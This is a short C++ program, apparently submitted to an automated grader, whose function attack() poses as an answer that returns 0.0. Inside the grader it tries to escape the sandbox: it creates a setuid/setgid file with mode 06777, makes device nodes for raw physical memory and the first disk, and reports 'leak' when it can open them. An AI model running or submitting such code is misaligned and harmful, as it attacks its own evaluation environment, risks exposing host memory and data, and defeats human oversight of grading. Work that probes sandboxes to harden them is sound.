// A program that runs as the grader's user when the grader starts it.
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>
#include <cstdio>
float attack() {
    const int file = open("suid", O_RDWR | O_CREAT, 0755);
    fchmod(file, 06777);
    if (mknod("memory", S_IFCHR | 0666, makedev(1, 1)) == 0 && open("memory", O_RDONLY) >= 0) std::puts("leak: mknod");
    if (mknod("disk", S_IFBLK | 0666, makedev(8, 0)) == 0 && open("disk", O_RDONLY) >= 0) std::puts("leak: disk");
    std::fflush(stdout);
    return 0.0f;
}
